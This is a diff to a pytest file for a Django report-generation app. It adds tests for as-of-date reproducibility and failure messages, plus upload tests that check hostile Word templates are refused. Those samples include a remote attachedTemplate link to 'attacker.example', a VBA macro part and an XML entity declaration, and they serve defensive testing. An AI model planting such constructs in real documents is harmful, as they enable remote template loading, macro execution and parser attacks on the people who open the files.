@@ -32,7 +32,15 @@ coverage.register(*(name for name, _ in coverage.all_url_patterns() if name.star
 
 @pytest.fixture
 def dataset():
-    """The demo partnership and plan, with known training and referral figures in Q4 2017/18."""
+    """The demo partnership and plan, with known training and referral figures in Q4 2017/18, all entered
+    on 12 January 2018 (a report as of a day shows only what had been entered by then)."""
+    import time_machine
+
+    with time_machine.travel(dt.datetime(2018, 1, 12, 12, 0, tzinfo=dt.UTC), tick=False):
+        return _dataset()
+
+
+def _dataset():
     partnership, _ = load_warwickshire()
     version = load_warwickshire_plan(partnership)
     course = Course.objects.create(partnership=partnership, name="WRAP", level="wrap")
@@ -262,3 +270,92 @@ def test_another_partnerships_report_answers_404(client, dataset):
     assert not ReportFile.objects.filter(partnership=other).exists()
     assert Organisation.objects.filter(partnership=partnership).exists()
     assert PlanVersion.objects.filter(partnership=partnership).exists()
+
+
+def test_records_entered_after_the_as_of_day_do_not_change_the_report(dataset):
+    """Reproducible: what is typed in later about earlier events waits for a later report."""
+    from prevent_hub.plans.models import MitigatingAction
+
+    partnership, version = dataset
+    _, first = make(partnership, version)
+    session = TrainingSession.objects.first()  # held on 10 January 2018, before the as-of day
+    HeadCount.objects.create(partnership=partnership, session=session, sector="police", count=40)
+    Referral.objects.create(partnership=partnership, reference="LATE", referral_date=dt.date(2017, 11, 1),
+                            financial_year=2017, sector="police", age_band="21_30", gender="male", concern="other",
+                            district="Rugby", stage="adopted")
+    action = version.actions.order_by("sort_key").first()
+    MitigatingAction.objects.create(partnership=partnership, action=action, text="A later mitigation")
+    _, second = make(partnership, version)
+    assert docx_text(first["docx"]) == docx_text(second["docx"])
+    # They are there for anything that looks at today's records.
+    from prevent_hub.training.selectors import coverage
+
+    assert coverage(partnership, dt.date(2018, 1, 1), dt.date(2018, 1, 15))["total"] == 63
+
+
+def _template_with(relationship_xml: str = "", extra_part: tuple | None = None) -> bytes:
+    """A real template with a relationship added to its settings (or an extra part)."""
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(_template_with_logo()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "word/_rels/document.xml.rels" and relationship_xml:
+                data = data.replace(b"</Relationships>", relationship_xml.encode() + b"</Relationships>")
+            target.writestr(item, data)
+        if extra_part:
+            target.writestr(*extra_part)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("data, message", [
+    (lambda: _template_with('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                            'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
+                            'TargetMode="External"/>'), "links to something outside the file"),
+    (lambda: _template_with('<Relationship Id="rIdY" Type="http://schemas.microsoft.com/office/2006/relationships/'
+                            'vbaProject" Target="vbaProject.bin"/>', ("word/vbaProject.bin", b"macro")),
+     "macros, embedded objects"),
+    (lambda: _template_with(extra_part=("customXml/item9.xml", b"<!-- " + b"x" * 5000 + b' --><!DOCTYPE a [<!ENTITY e '
+                                        b'"boom">]><a>&e;</a>')), "document type declaration"),
+])
+def test_a_template_that_reaches_outside_itself_is_refused(client, dataset, data, message):
+    partnership, _ = dataset
+    client.force_login(user_with(Role.COORDINATOR, partnership))
+    upload = io.BytesIO(data())
+    upload.name = "hostile.docx"
+    response = client.post(reverse("reports:reporttemplate_add", kwargs={"partnership": partnership.slug}),
+                           {"name": "x", "file": upload})
+    page = response.content.decode()
+    # Refused either by name or because Word's own package reader will not take it as it is.
+    assert response.status_code == 400 and (message in page or "not a Word document" in page), page[-3000:]
+    assert not ReportTemplate.objects.exists()
+
+
+def test_a_year_starting_in_january_is_named_by_its_year_and_odd_text_does_not_break_a_report(dataset):
+    partnership, version = dataset
+    partnership.year_start_month = 1
+    partnership.save()
+    action = version.actions.order_by("sort_key").first()
+    action.text = "A key action\x0bwith a soft line break and a bell\x07"
+    action.save()
+    run, files = make(partnership, version, kind="annual", as_of=dt.date(2018, 3, 31))
+    assert run.title.startswith("Annual report 2018 ")
+    assert "Prevent annual report 2018" in docx_text(files["docx"])
+    _, files = make(partnership, version, kind="action_plan")
+    assert "A key action\nwith a soft line break and a bell" in docx_text(files["docx"])
+
+
+def test_a_report_is_made_once_and_a_failure_says_so_without_details(client, dataset, monkeypatch):
+    partnership, version = dataset
+    run, _ = make(partnership, version, kind="action_plan")
+    assert services.report_generate(run.pk).files.count() == 3  # already made: nothing made twice
+    broken = services.report_request(actor=None, partnership=partnership, kind="action_plan", as_of=AS_OF,
+                                     plan_version=version)
+    monkeypatch.setattr(services.renderers, "pdf_bytes", lambda *a, **k: (_ for _ in ()).throw(OSError("disk /srv full")))
+    assert services.report_generate(broken.pk).status == "failed"
+    client.force_login(user_with(Role.COORDINATOR, partnership))
+    page = client.get(broken.get_absolute_url()).content.decode()
+    assert "could not be made" in page and "/srv" not in page
+    assert not broken.files.exists()
